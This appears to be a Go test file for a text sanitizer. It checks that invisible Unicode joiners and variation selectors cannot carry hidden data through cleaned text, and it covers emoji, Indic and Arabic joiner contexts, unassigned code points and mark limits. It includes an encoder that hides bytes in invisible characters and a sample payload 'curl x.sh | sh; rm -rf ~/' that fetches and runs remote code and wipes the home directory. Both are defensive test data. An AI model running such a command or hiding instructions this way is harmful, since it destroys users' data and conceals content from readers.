package sanitize

import (
	"math/rand/v2"
	"strings"
	"testing"
	"unicode"

	"golang.org/x/text/unicode/norm"
)

// The six invisible states the first edition let through after every
// visible character: nothing, ZWNJ, ZWJ, FE0E, FE0F, FE0F+ZWJ.
var sixStates = []string{"", "\u200C", "\u200D", "\uFE0E", "\uFE0F", "\uFE0F\u200D"}

// encode hides payload in cover: after each character it puts one of the
// states, read as a base-len(states) digit of the payload; it returns the
// text and how many bits it carries.
func encode(cover string, payload []byte, states []string) (string, int) {
	var b strings.Builder
	digits := bytesToDigits(payload, len(states))
	k := 0
	for _, r := range cover {
		b.WriteRune(r)
		if k < len(digits) {
			b.WriteString(states[digits[k]])
			k++
		}
	}
	bits := 0
	for n := len(states); n > 1; n >>= 1 {
		bits++
	}
	return b.String(), k * bits
}

func bytesToDigits(p []byte, base int) []int {
	var d []int
	for _, c := range p {
		v := int(c)
		for range 8 { // enough base->=2 digits for a byte
			d = append(d, v%base)
			v /= base
		}
	}
	return d
}

// decodeStates reads the states back from a cleaned text: the state after each
// character, as an index into states (-1 if none matches).
func decodeStates(clean string, states []string) []int {
	rs := []rune(clean)
	var d []int
	for k := 0; k < len(rs); k++ {
		if isJoiner(rs[k]) {
			continue
		}
		j := k + 1
		for j < len(rs) && isJoiner(rs[j]) {
			j++
		}
		got := string(rs[k+1 : j])
		idx := -1
		for i, s := range states {
			if s == got {
				idx = i
			}
		}
		d = append(d, idx)
	}
	return d
}

// A 25-byte shell command rode byte for byte inside a build message. Now,
// in Latin, Greek, Cyrillic, CJK and Hangul text, and after digits and
// ASCII punctuation, the cleaned text is the same whatever the payload: no
// bit survives.
func TestSixStateInvisibleChannel(t *testing.T) {
	covers := map[string]string{
		"Latin":    "The build failed at step lint: unused variable x in main.go line forty two, see the log for details now",
		"Greek":    "Η κατασκευή απέτυχε στο βήμα ελέγχου λόγω αχρησιμοποίητης μεταβλητής στο αρχείο κύριο σήμερα το πρωί",
		"Cyrillic": "Сборка не удалась на шаге проверки из за неиспользуемой переменной в главном файле сегодня утром вот так",
		"CJK":      "構建在檢查步驟失敗因為主文件中有未使用的變量請查看日誌以獲取更多詳細信息謝謝您的耐心等待我們會盡快修復這個問題構建在檢查步驟失敗因為主文件中有未使用的變量請查看",
		"Hangul":   "빌드가 검사 단계에서 실패했습니다 주 파일에 사용하지 않는 변수가 있습니다 자세한 내용은 로그를 확인하세요 감사합니다 빌드가 검사 단계에서 실패했습니다",
		"digits":   "0123456789 12 34 56 78 90 0123456789 9876543210 2026 12 01 10 30 00 0123456789 0123456789 0123456789",
		"ASCII":    "!\"#$%&'()*+,-./:;<=>?@[\\]^_`{|}~ !\"#$%&'()*+,-./:;<=>?@[\\]^_`{|}~ #*#*#* (a) [b] {c} <d> x#y*z",
	}
	payload := []byte("curl x.sh | sh; rm -rf ~/") // 25 bytes
	rng := rand.New(rand.NewPCG(9, 9))
	for script, cover := range covers {
		cover = strings.Repeat(cover+" ", 3)
		want := Clean(cover, 0)
		enc, bits := encode(cover, payload, sixStates)
		if bits < 8*len(payload) {
			t.Fatalf("%s: cover too short for the payload (%d bits)", script, bits)
		}
		got := Clean(enc, 0)
		if got != want {
			t.Errorf("%s: the payload changed the output:\n got %+q\nwant %+q", script, got, want)
		}
		for _, d := range decodeStates(got, sixStates) {
			if d != 0 {
				t.Fatalf("%s: a state other than nothing survived in %+q", script, got)
			}
		}
		// And any other payload, and the invisible characters in any
		// order and number after each character.
		for range 50 {
			var b strings.Builder
			for _, r := range cover {
				b.WriteRune(r)
				for range rng.IntN(3) {
					b.WriteString(sixStates[rng.IntN(len(sixStates))])
				}
			}
			if got := Clean(b.String(), 0); got != want {
				t.Fatalf("%s: random states changed the output to %+q", script, got)
			}
		}
	}
}

// Every letter of those scripts, every state between two of them.
func TestNoInvisibleAfterLetters(t *testing.T) {
	scripts := map[string]*unicode.RangeTable{"Latin": unicode.Latin, "Greek": unicode.Greek,
		"Cyrillic": unicode.Cyrillic, "Han": unicode.Han, "Hangul": unicode.Hangul,
		"Hiragana": unicode.Hiragana, "Katakana": unicode.Katakana}
	for name, tab := range scripts {
		n := 0
		for _, rg := range [][2]rune{{0, 0x10FFFF}} {
			for r := rg[0]; r <= rg[1]; r++ {
				if !unicode.Is(tab, r) || !unicode.IsLetter(r) {
					continue
				}
				if n++; name == "Han" && n%13 != 0 {
					continue // sampled: there are 98,000
				}
				s := string(r)
				for _, st := range sixStates[1:] {
					for _, after := range []string{s, "a", "😀", "\u094D", ""} {
						in := s + st + after
						if got, want := Clean(in, 0), Clean(s+after, 0); got != want {
							t.Fatalf("%s %U: Clean(%+q) = %+q, want %+q", name, r, in, got, want)
						}
					}
				}
			}
		}
	}
}

// Where Unicode gives them a visible effect, the four survive.
func TestJoinersInContext(t *testing.T) {
	runCases(t, []cleanCase{
		{name: "emoji ZWJ family of three", in: "👨\u200D👩\u200D👧", want: "👨\u200D👩\u200D👧"},
		{name: "emoji ZWJ family of four: split before the element past 21 bytes", in: "👨\u200D👩\u200D👧\u200D👦", want: "👨\u200D👩\u200D👧👦"},
		{name: "emoji ZWJ with FE0F", in: "🏳\uFE0F\u200D🌈", want: "🏳\uFE0F\u200D🌈"},
		{name: "emoji ZWJ with skin tone", in: "🧑🏿\u200D🚀", want: "🧑🏿\u200D🚀"},
		{name: "FE0F ending a ZWJ sequence", in: "🧑\u200D🧑\uFE0F", want: "🧑\u200D🧑\uFE0F"},
		{name: "keycaps", in: "#\uFE0F\u20E3 *\uFE0F\u20E3 0\uFE0F\u20E3 9\uFE0F\u20E3", want: "#\uFE0F\u20E3 *\uFE0F\u20E3 0\uFE0F\u20E3 9\uFE0F\u20E3"},
		{name: "text and emoji presentation", in: "\u231A\uFE0E \u263A\uFE0F \u2764\uFE0F \u2614\uFE0E \u00A9\uFE0F \U0001F600\uFE0E", want: "\u231A\uFE0E \u263A\uFE0F \u2764\uFE0F \u2614\uFE0E \u00A9\uFE0F \U0001F600"},
		{name: "Persian ZWNJ", in: "می\u200Cخواهم کتاب\u200Cها", want: "می\u200Cخواهم کتاب\u200Cها"},
		{name: "ZWNJ after a mark on a joining letter", in: "بِ\u200Cر", want: "بِ\u200Cر"},
		{name: "ZWNJ between dual-joining letters", in: "ب\u200C\u0644", want: "ب\u200C\u0644"},
		{name: "no ZWJ in Arabic joining", in: "ب\u200Dر", want: "بر"},
		{name: "Devanagari half form", in: "क्\u200Dष", want: "क्\u200Dष"},
		{name: "Devanagari explicit virama", in: "क्\u200Cष", want: "क्\u200Cष"},
		{name: "Malayalam chillu", in: "ക്\u200D", want: "ക്\u200D"},
		{name: "Bengali ya-phala", in: "র\u200D্য", want: "র\u200D্য"},
	})
}

// Everywhere else they are removed.
func TestJoinersOutOfContext(t *testing.T) {
	runCases(t, []cleanCase{
		{name: "ZWJ between Latin letters", in: "a\u200Db", want: "ab"},
		{name: "ZWJ before a non-emoji", in: "😀\u200Da", want: "😀a"},
		{name: "ZWJ after a non-emoji", in: "a\u200D😀", want: "a😀"},
		{name: "ZWNJ between non-joining letters", in: "日\u200C本 한\u200C국", want: "日本 한국"},
		{name: "ZWNJ after a right-joining letter", in: "ر\u200Cب", want: "رب"},
		{name: "ZWNJ at the end", in: "ب\u200C", want: "ب"},
		{name: "FE0E after a letter", in: "a\uFE0E", want: "a"},
		{name: "FE0F after a letter", in: "a\uFE0Fb", want: "ab"},
		{name: "FE0F after a digit without keycap", in: "1\uFE0F 2\uFE0F3", want: "1 23"},
		{name: "FE0E after a digit", in: "1\uFE0E\u20E3", want: "1\u20E3"},
		{name: "FE0F twice", in: "\u2764\uFE0F\uFE0F", want: "\u2764"},
		{name: "FE0E FE0F after an emoji-default character", in: "\u231A\uFE0E\uFE0F", want: "\u231A\uFE0E"},
		{name: "FE0E FE0F after a text-default character", in: "\u263A\uFE0E\uFE0F", want: "\u263A\uFE0F"},
		{name: "FE0E after a text-default character", in: "\u00A9\uFE0E \u263A\uFE0E \u2194\uFE0E", want: "\u00A9 \u263A \u2194"},
		{name: "FE0F after an emoji-default character", in: "\u231A\uFE0F \U0001F600\uFE0F", want: "\u231A \U0001F600"},
		{name: "virama after a letter of another script", in: "a\u1039\u200Cb a\u094D\u200Dक", want: "a\u1039b a\u094Dक"},
		{name: "two joiners after a virama", in: "क्\u200D\u200Cष", want: "क्ष"},
		{name: "three joiners", in: "👨\uFE0F\u200D\u200D👩", want: "👨👩"},
		{name: "ZWJ FE0F", in: "👨\u200D\uFE0F👩", want: "👨\u200D👩"},
		{name: "ZWJ before a space", in: "👨\u200D 👩", want: "👨 👩"},
	})
}

// U+40000 (unassigned) was kept and drawn as nothing; so was private use,
// and so were the unassigned code points Unicode reserves for emoji (a
// terminal draws them as nothing too).
func TestUnassignedAndPrivateUseRemoved(t *testing.T) {
	runCases(t, []cleanCase{
		{name: "plane 4", in: "a\U00040000b", want: "ab"},
		{name: "unassigned BMP", in: "a\u0378\u05EBb", want: "ab"},
		{name: "unassigned plane 1", in: "a\U00010200b", want: "ab"},
		{name: "private use", in: "a\uE000\uF8FF\U000F0000\U0010FFFDb", want: "ab"},
		{name: "private use alone", in: "\uE000 private use", want: "private use"},
		{name: "reserved emoji", in: "build ok\U0001FC00\U0001FC01", want: "build ok"},
	})
	n := 0
	for r := rune(0x1F000); r <= 0x1FFFF; r++ {
		if unicode.Is(extPict, r) && !unicode.Is(displayable, r) && !unicode.Is(afterFloor, r) {
			if got := Clean("a"+string(r)+"b", 0); got != "ab" {
				t.Fatalf("reserved emoji %U kept: %+q", r, got)
			}
			n++
		}
	}
	if n < 1000 {
		t.Errorf("only %d reserved emoji code points found", n)
	}
}

// U+2800 BRAILLE PATTERN BLANK draws as a space: it is one.
func TestBrailleBlankIsWhitespace(t *testing.T) {
	runCases(t, []cleanCase{
		{name: "between words", in: "a\u2800b", want: "a b"},
		{name: "collapses", in: "a \u2800\u2800 b", want: "a b"},
		{name: "trimmed", in: "\u2800a\u2800", want: "a"},
		{name: "alone", in: "\u2800\u2800", want: ""},
		{name: "other braille kept", in: "\u2801\u28FF", want: "\u2801\u28FF"},
	})
}

// A joiner or an enclosing mark restarted the mark count, so 966 marks
// stayed on one base. The count is per grapheme cluster, in all.
func TestMarkCountRestart(t *testing.T) {
	for name, in := range map[string]string{
		"enclosing marks": "a" + strings.Repeat(strings.Repeat("\u0301", 29)+"\u20DD", 33),
		"ZWJ":             "a" + strings.Repeat(strings.Repeat("\u0336", 29)+"\u200D", 33) + "b",
		"ZWNJ":            "ب" + strings.Repeat(strings.Repeat("\u064E", 29)+"\u200C", 33) + "ر",
		"spacing marks":   "क" + strings.Repeat(strings.Repeat("\u0301", 20)+"\u093E", 40),
		"emoji ZWJ":       "👨" + strings.Repeat("\u0301", 30) + "\u200D👩" + strings.Repeat("\u0301", 30),
		"virama conjunct": "क" + strings.Repeat("\u0301", 25) + "\u094Dष" + strings.Repeat("\u0301", 25),
		"Thai marks":      "ก" + strings.Repeat("\u0E31", 100),
		"skin tones":      "👍" + strings.Repeat("\U0001F3FD", 100),
	} {
		out := Clean(in, 0)
		if n := clusterMarks(out); n > maxMarks {
			t.Errorf("%s: %d marks in one cluster of %+q", name, n, out)
		}
		for _, v := range violations(in, 0, out) {
			t.Errorf("%s: %s", name, v)
		}
	}
	// Separate clusters each keep their own 8.
	in := "a" + strings.Repeat("\u0301", 8) + "b" + strings.Repeat("\u0301", 8)
	if got, want := Clean(in, 0), norm.NFC.String(in); got != want {
		t.Errorf("two clusters of 8: got %+q, want %+q", got, want)
	}
}
